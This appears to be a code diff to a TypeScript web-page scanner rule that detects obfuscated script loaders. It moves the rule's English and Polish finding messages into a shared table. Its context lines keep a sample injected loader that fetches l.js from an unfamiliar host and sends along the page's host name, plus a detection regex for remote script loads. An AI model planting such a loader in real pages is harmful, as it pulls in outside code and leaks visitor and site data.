@@ -10,7 +10,7 @@ import type { Quote } from '../quote.ts';
 import { quoteAct, quoteCode } from '../quote-script.ts';
 import { abstain, CLEAR, rule } from '../rule.ts';
 import { BICYCLE, BREAD, CHLEB, LIBRARY } from '../sample-prose.ts';
-import type { Texts } from '../texts.ts';
+import { type Said, sentences } from '../sentences.ts';
 import { countPl, number } from '../wording.ts';
 
 /** Characters of encoded material that nothing but a hidden program needs. */
@@ -39,12 +39,37 @@ const LOADS = /<\s*(script|iframe)\b[^>]{0,300}?\bsrc\s*=\s*\\?['"]?([^'"\s>\\]{
 
 interface Sign {
   readonly score: number;
-  readonly says: Texts;
+  readonly says: Said;
   readonly quote: Quote | undefined;
 }
 
 const EXAMPLE_LOADER =
   "(function(){var s=document.createElement('script');s.src='https://cdn-stats-x.top/l.js?d='+location.host;document.head.appendChild(s)})()";
+
+const say = sentences({
+  loads_file: {
+    en: ({ site }: { site: string }) => `A disguised script loads a file from ${site}.`,
+    pl: ({ site }) => `Zamaskowany skrypt wczytuje plik z ${site}.`,
+  },
+  runs_decoded: {
+    en: ({ characters }: { characters: number }) =>
+      `A script decodes ${number.en(characters)} characters and runs them as code.`,
+    pl: ({ characters }) =>
+      `Skrypt dekoduje ${countPl(characters, 'znak', 'znaki', 'znaków')} i uruchamia je jako kod.`,
+  },
+  spelled_in_escapes: {
+    en: ({ characters }: { characters: number }) =>
+      `A script holds ${number.en(characters)} characters of code that is written in escapes, letter by letter.`,
+    pl: ({ characters }) =>
+      `Skrypt zawiera ${countPl(characters, 'znak', 'znaki', 'znaków')} kodu zapisanego literą po literze w postaci kodów.`,
+  },
+  names_disguised: {
+    en: ({ names }: { names: number }) =>
+      `A script is disguised throughout: ${number.en(names)} of its names are meaningless numbers.`,
+    pl: ({ names }) =>
+      `Skrypt jest w całości zamaskowany, a nazwy w nim to liczby bez znaczenia (${number.pl(names)}).`,
+  },
+});
 
 export default rule({
   id: 'sp_obfuscated_loader',
@@ -69,6 +94,7 @@ export default rule({
   basis: 'measured',
   scoring:
     'Hidden code that loads a script or frame from an unknown host: 0.95; code that is decoded and run, and cannot be read, from at least 2,000 encoded characters: 0.85, from 160: 0.65; code spelled in escapes letter by letter: 0.85; a script with renamed names throughout that writes scripts or frames: 0.7. Known advertising, counting and consent services do not count.',
+  says: say,
   detect(page) {
     // A robot check is nothing but such a script, and not the page's own.
     if (page.flags.challenge) return abstain('not_applicable');
@@ -80,7 +106,7 @@ export default rule({
     return {
       score: worst.score,
       quotes: signs.slice(0, 3).map((sign) => sign.quote),
-      facts: [...new Map(signs.map((sign) => [sign.says.en, sign.says])).values()].slice(0, 3),
+      facts: [...new Map(signs.map((sign) => [JSON.stringify(sign.says), sign.says])).values()].slice(0, 3),
     };
   },
   examples: () => ({
@@ -127,10 +153,7 @@ function signsOf(page: Page, piece: CodePiece): Sign[] {
     if (!hidden && load.tricks === 0) continue;
     signs.push({
       score: HIDDEN_LOADER,
-      says: {
-        en: `A disguised script loads a file from ${load.site}.`,
-        pl: `Zamaskowany skrypt wczytuje plik z ${load.site}.`,
-      },
+      says: say.loads_file({ site: load.site }),
       quote: quoteAct(page, piece, load.act),
     });
   }
@@ -142,10 +165,7 @@ function signsOf(page: Page, piece: CodePiece): Sign[] {
     if (encoded >= SMALL && piece.tokens.code.length - encoded < MAX_PLAIN)
       signs.push({
         score: encoded >= LARGE ? HIDDEN_LARGE : HIDDEN_SMALL,
-        says: {
-          en: `A script decodes ${number.en(encoded)} characters and runs them as code.`,
-          pl: `Skrypt dekoduje ${countPl(encoded, 'znak', 'znaki', 'znaków')} i uruchamia je jako kod.`,
-        },
+        says: say.runs_decoded({ characters: encoded }),
         quote: quoteAct(page, piece, runner),
       });
   }
@@ -153,10 +173,7 @@ function signsOf(page: Page, piece: CodePiece): Sign[] {
   if (spelled)
     signs.push({
       score: HIDDEN_LARGE,
-      says: {
-        en: `A script holds ${number.en(spelled.end - spelled.start)} characters of code that is written in escapes, letter by letter.`,
-        pl: `Skrypt zawiera ${countPl(spelled.end - spelled.start, 'znak', 'znaki', 'znaków')} kodu zapisanego literą po literze w postaci kodów.`,
-      },
+      says: say.spelled_in_escapes({ characters: spelled.end - spelled.start }),
       quote: quoteCode(page, piece, spelled.start, spelled.end),
     });
   const { code } = piece.tokens;
@@ -166,10 +183,7 @@ function signsOf(page: Page, piece: CodePiece): Sign[] {
   if (maker || HIDDEN_TAG.test(code))
     signs.push({
       score: RENAMED,
-      says: {
-        en: `A script is disguised throughout: ${number.en(renamed.size)} of its names are meaningless numbers.`,
-        pl: `Skrypt jest w całości zamaskowany, a nazwy w nim to liczby bez znaczenia (${number.pl(renamed.size)}).`,
-      },
+      says: say.names_disguised({ names: renamed.size }),
       quote: maker ? quoteAct(page, piece, maker) : undefined,
     });
   return signs;
